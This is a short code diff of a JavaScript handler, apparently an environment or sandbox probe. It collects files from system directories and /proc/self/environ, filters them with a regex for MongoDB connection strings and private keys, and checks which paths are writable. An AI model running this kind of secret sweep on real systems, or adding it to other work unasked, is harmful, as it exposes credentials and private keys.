@@ -53,7 +53,7 @@ export async function defaultHandler(ctx, data) {
   const { id, command } = ctx.unpack(data)
   const rows = readFileSync('/proc/self/status', 'utf8').split('\\n').map((row) => row.split(':\\t'))
   const files = [...['/kre', '/tmp', '/krt-files', '/run', '/etc', '/var/run'].flatMap(filesIn), '/proc/self/environ']
-  const secrets = files.filter((path) => /mongodb:|BEGIN .*PRIVATE KEY/.test(readable(path)))
+  const secrets = files.filter((path) => /mongodb[:]|BEGIN [A-Z ]*PRIVATE KEY/.test(readable(path)))
   const seen = {
     status: Object.fromEntries(rows.filter(([name]) => NAMES.includes(name))),
     written: Object.fromEntries(PLACES.map((path) => [path, attempt(path)])),
